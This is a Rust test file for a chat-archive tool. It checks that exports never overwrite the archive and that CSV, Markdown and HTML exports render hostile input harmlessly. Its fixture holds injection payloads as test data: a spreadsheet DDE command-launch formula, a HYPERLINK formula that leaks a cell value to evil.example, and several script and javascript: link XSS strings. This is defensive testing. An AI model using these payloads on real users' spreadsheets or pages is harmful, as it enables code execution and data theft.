//! Hostile archives, second round (issue 10): the data daybook writes and
//! keeps. The archive is never written into by `export -o`; exports never
//! carry content that attacks whoever opens them (formulas in CSV, HTML and
//! links in Markdown); memory stays within twice the size of a file however
//! its text is made; invisible characters neither hide text nor hide it
//! from search; odd byte-order marks are read as what they are.
//!
//! The first round (escape sequences, broken files, bombs) is in
//! `tests/hostile.rs`; the state file's safety is tested in `src/state.rs`
//! and `src/tui/memory.rs`.

#[path = "support/process.rs"]
mod process;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use process::{Run, assert_no_controls, daybook_in};

const ROOT: &str = env!("CARGO_MANIFEST_DIR");
/// Long enough for a debug build on a slow machine; a hang is far longer.
const DEADLINE: Duration = Duration::from_secs(120);

fn daybook(args: &[&str]) -> Run {
    daybook_in(Path::new(ROOT), args, DEADLINE)
}

/// A day file with front matter for `date` and one message per `(speaker, body)`.
fn day(date: &str, messages: &[(&str, &str)]) -> String {
    let mut text = format!("---\ndate: {date} 12:00:00\n---\n");
    for (i, (speaker, body)) in messages.iter().enumerate() {
        text.push_str(&format!(
            "> 09:00:{i:02}  {speaker}  \n   \n{body}  \n   \n"
        ));
    }
    text
}

/// Every file under `dir` with its bytes.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("read_dir") {
            let p = e.expect("entry").path();
            let meta = std::fs::symlink_metadata(&p).expect("metadata");
            if meta.is_dir() {
                stack.push(p);
            } else {
                out.insert(p.clone(), std::fs::read(&p).unwrap_or_default());
            }
        }
    }
    out
}

// ---------------------------------------------------------------------------
// export -o never writes into the archive

#[test]
fn export_never_writes_into_the_archive() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let archive = tmp.path().join("archive");
    let sub = archive.join("group");
    std::fs::create_dir_all(&sub).expect("mkdir");
    std::fs::create_dir_all(archive.join(".hidden")).expect("mkdir");
    std::fs::write(
        sub.join("2018-06-01-chat.markdown"),
        day("2018-06-01", &[("A", "hi")]),
    )
    .expect("write");
    std::fs::write(archive.join("README.md"), "about this archive\n").expect("write");
    std::fs::write(sub.join("2018-06-02-empty.markdown"), "").expect("write");
    std::fs::write(sub.join("2018-06-03-broken.markdown"), "\u{0}\u{1}binary").expect("write");
    std::fs::write(archive.join(".hidden/notes.txt"), "hidden notes\n").expect("write");
    // Names elsewhere for files of the archive: hard links and a symlink.
    let outside = tmp.path().join("outside");
    std::fs::create_dir(&outside).expect("mkdir");
    std::fs::hard_link(
        sub.join("2018-06-01-chat.markdown"),
        outside.join("day-link.csv"),
    )
    .expect("hard link");
    std::fs::hard_link(archive.join("README.md"), outside.join("readme-link.csv"))
        .expect("hard link");
    std::fs::hard_link(
        archive.join(".hidden/notes.txt"),
        outside.join("notes-link.csv"),
    )
    .expect("hard link");
    std::os::unix::fs::symlink(
        archive.join("README.md"),
        outside.join("readme-symlink.csv"),
    )
    .expect("symlink");
    let before = snapshot(tmp.path());

    let a = archive.to_str().expect("UTF-8 path");
    let refused = [
        archive.join("README.md"),
        sub.join("2018-06-01-chat.markdown"),
        sub.join("2018-06-02-empty.markdown"),
        sub.join("2018-06-03-broken.markdown"),
        archive.join("new.csv"),
        sub.join("new.csv"),
        archive.join(".hidden/new.csv"),
        archive.join("group/../new.csv"),
        outside.join("day-link.csv"),
        outside.join("readme-link.csv"),
        outside.join("notes-link.csv"),
        outside.join("readme-symlink.csv"),
    ];
    for out in &refused {
        let o = out.to_str().expect("UTF-8 path");
        let r = daybook(&["export", "", a, "--format", "csv", "-o", o]);
        assert_eq!(r.code, Some(2), "-o {o} was accepted: {}", r.stderr_text());
        assert!(
            r.stderr_text().contains("never writes into an archive"),
            "-o {o}: {}",
            r.stderr_text()
        );
        assert_no_controls(&r.stderr, "stderr");
    }
    // A day file given by itself: the same file under any name is refused.
    let file = sub.join("2018-06-01-chat.markdown");
    let r = daybook(&[
        "export",
        "",
        file.to_str().expect("UTF-8"),
        "-o",
        outside.join("day-link.csv").to_str().expect("UTF-8"),
    ]);
    assert_eq!(r.code, Some(2), "{}", r.stderr_text());
    assert_eq!(snapshot(tmp.path()), before, "the archive changed");

    // Outside the archive, writing works.
    let fine = outside.join("export.csv");
    let r = daybook(&[
        "export",
        "",
        a,
        "--format",
        "csv",
        "-o",
        fine.to_str().expect("UTF-8"),
    ]);
    assert_eq!(r.code, Some(0), "{}", r.stderr_text());
    assert!(
        std::fs::read_to_string(&fine)
            .expect("read")
            .contains(",A,hi")
    );
}

// ---------------------------------------------------------------------------
// Exports that attack whoever opens them

/// An archive whose speakers, bodies and channel name are made to attack
/// spreadsheets and Markdown renderers.
fn attacking_archive() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().expect("tempdir");
    let channel = tmp.path().join("<img src=x onerror=alert(9)>");
    std::fs::create_dir(&channel).expect("mkdir");
    let messages: &[(&str, &str)] = &[
        (
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        ),
        ("+speaker", "+1+2"),
        ("-speaker", "-2+3"),
        ("@speaker", "@SUM(1,2)"),
        ("normal", "<script>alert(1)</script>"),
        ("normal", "<img src=x onerror=alert(2)>"),
        (
            "normal",
            "[click me](javascript:alert(3)) and <javascript:alert(4)>",
        ),
        ("normal", "![pic](javascript:alert(5))"),
        ("normal", "```\nthe rest of the file is code"),
        ("normal", "~~~\nanother fence"),
        (
            "normal",
            "# a fake heading\n## 2099-01-01 Fake day\n---\n1. one\n> quote",
        ),
        (
            "normal",
            "<a href=\"javascript:alert(6)\">link</a> &lt;b&gt;",
        ),
        ("normal", "| a | b |\n|---|---|\n| c | d |"),
        ("[x](javascript:alert(7))", "*em* _em_ **strong** `code`"),
    ];
    std::fs::write(
        channel.join("2018-07-01-chat.markdown"),
        day("2018-07-01", messages),
    )
    .expect("write");
    let dir = tmp.path().to_path_buf();
    (tmp, dir)
}

#[test]
fn csv_fields_that_look_like_formulas_are_neutralised() {
    let (_tmp, dir) = attacking_archive();
    let d = dir.to_str().expect("UTF-8");
    let r = daybook(&["export", "", d, "--format", "csv"]);
    assert_eq!(r.code, Some(0), "{}", r.stderr_text());
    let mut rdr = csv::Reader::from_reader(r.stdout.as_slice());
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 14);
    for row in &rows {
        for field in row {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula: {field:?}"
            );
        }
    }
    assert_eq!(&rows[0][3], "'=cmd|' /C calc'!A0");
    assert_eq!(
        &rows[0][4],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(&rows[1][4], "'+1+2");
    assert_eq!(&rows[2][3], "'-speaker");
    assert_eq!(&rows[3][4], "'@SUM(1,2)");
    assert_eq!(&rows[4][4], "<script>alert(1)</script>");

    // --csv-raw keeps the values as they are, for programs.
    let r = daybook(&["export", "", d, "--format", "csv", "--csv-raw"]);
    assert_eq!(r.code, Some(0), "{}", r.stderr_text());
    let mut rdr = csv::Reader::from_reader(r.stdout.as_slice());
    let raw: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    assert_eq!(&raw[0][3], "=cmd|' /C calc'!A0");
    assert_eq!(&raw[1][4], "+1+2");
    assert_eq!(&raw[3][4], "@SUM(1,2)");
}

/// The Markdown export rendered by a `CommonMark` renderer: nothing from the
/// archive becomes an HTML tag, a link or a code block, and the text reads
/// as it was written.
#[test]
fn markdown_export_renders_archive_text_as_text() {
    let (_tmp, dir) = attacking_archive();
    let d = dir.to_str().expect("UTF-8");
    let r = daybook(&["export", "", d, "--format", "markdown"]);
    assert_eq!(r.code, Some(0), "{}", r.stderr_text());
    let md = r.stdout_text();
    let mut html = String::new();
    let options = pulldown_cmark::Options::ENABLE_TABLES
        | pulldown_cmark::Options::ENABLE_STRIKETHROUGH
        | pulldown_cmark::Options::ENABLE_TASKLISTS;
    let events: Vec<pulldown_cmark::Event<'_>> =
        pulldown_cmark::Parser::new_ext(&md, options).collect();
    for e in &events {
        use pulldown_cmark::{Event, Tag};
        match e {
            Event::Html(h) | Event::InlineHtml(h) => panic!("raw HTML passed: {h:?}\n{md}"),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                panic!("a link to {dest_url:?}\n{md}")
            }
            Event::Start(Tag::CodeBlock(_) | Tag::Table(_) | Tag::BlockQuote(_)) => {
                panic!("{e:?} from archive text\n{md}")
            }
            Event::Code(c) => panic!("a code span {c:?}\n{md}"),
            Event::Start(Tag::Emphasis) => panic!("emphasis from archive text\n{md}"),
            _ => {}
        }
    }
    pulldown_cmark::html::push_html(&mut html, events.into_iter());
    // One heading for the export, one per day: the fake ones are text.
    assert_eq!(html.matches("<h1>").count(), 1, "{html}");
    assert_eq!(html.matches("<h2>").count(), 1, "{html}");
    assert!(!html.contains("<hr"), "{html}");
    for tag in [
        "<script",
        "<img",
        "<a ",
        "<a>",
        "<pre",
        "<table",
        "<em>",
        "<ol",
        "<blockquote",
    ] {
        assert!(!html.contains(tag), "{tag} in {html}");
    }
    // The text reads as written.
    let text = |s: &str| {
        s.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
    };
    for shown in [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        &text("<img src=x onerror=alert(2)>"),
        "[click me](javascript:alert(3))",
        "```",
        "# a fake heading",
        "1. one",
        "| a | b |",
        "*em* _em_ **strong** `code`",
        &text("<a href=\"javascript:alert(6)\">link</a> <b>"),
    ] {
        assert!(html.contains(shown), "{shown:?} not shown in {html}");
    }
    assert!(
        html.contains(&text("## 2018-07-01 Sunday · <img src=x onerror=alert(9)>")[3..]),
        "{html}"
    );
}

/// The HTML export escapes everything, and forbids scripts even if a string
/// escaped the escaping.
#[test]
fn html_export_escapes_and_forbids_scripts() {
    let (_tmp, dir) = attacking_archive();
    let d = dir.to_str().expect("UTF-8");
    let r = daybook(&["export", "", d, "--format", "html"]);
    assert_eq!(r.code, Some(0), "{}", r.stderr_text());
    let html = r.stdout_text();
    assert!(html.contains(
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">"
    ));
    for tag in ["<script", "<img", "<a "] {
        assert!(!html.contains(tag), "{tag} in {html}");
    }
    assert!(html.contains("&lt;img src=x onerror=alert(9)&gt;"));
}

// ---------------------------------------------------------------------------
// Limits

/// `--context` as large as it can be shows every message of the day around
/// each match instead of wrapping around and losing the matches.
#[test]
fn huge_context_saturates() {
    let tmp = tempfile::tempdir().expect("tempdir");
    std::fs::write(
        tmp.path().join("2018-08-01-chat.markdown"),
        day(
            "2018-08-01",
            &[
                ("A", "one"),
                ("B", "two needle"),
                ("C", "three"),
                ("D", "four needle"),
            ],
        ),
    )
    .expect("write");
    let d = tmp.path().to_str().expect("UTF-8");
    let max = u64::MAX.to_string();
    for extra in [&[][..], &["--json"][..]] {
        let mut args = vec!["search", "needle", d, "--context", &max];
        args.extend_from_slice(extra);
        let r = daybook(&args);
        assert_eq!(r.code, Some(0), "{args:?}: {}", r.stderr_text());
        let out = r.stdout_text();
        assert_eq!(out.lines().count(), 4, "{out}");
        assert_eq!(out.matches("needle").count(), 2, "{out}");
    }
    let r = daybook(&["search", "needle", d, "--context", &max]);
    assert_eq!(
        r.stdout_text()
            .lines()
            .map(|l| l.split_once("  ").map_or(l, |(_, rest)| rest))
            .collect::<Vec<_>>(),
        ["A- one", "B: two needle", "C- three", "D: four needle"]
    );
}
